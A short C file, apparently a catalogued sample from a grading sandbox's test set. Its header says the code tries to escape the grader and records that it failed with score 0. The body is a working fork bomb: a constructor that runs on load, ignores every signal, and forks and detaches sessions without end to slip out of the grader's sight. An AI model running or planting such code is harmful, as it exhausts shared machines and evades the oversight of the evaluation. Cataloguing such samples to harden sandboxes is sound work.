// SPDX-License-Identifier: MIT
/*
 * Tries: to fill the machine with processes that fork on, each in a session of
 *     its own, deaf to all signals, where the grader might lose sight of them.
 * Fails because: a limit holds for the sandbox's user, and all die with the
 *     first process of their namespace.
 * Base: skeleton
 * Lab: pipe
 * Seen: score 0; within 120
 */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void multiply(void)
{
    for (int sig = 1; sig < 65; sig++)
        (void)signal(sig, SIG_IGN);
    for (;;) {
        (void)fork();
        (void)setsid();
    }
}
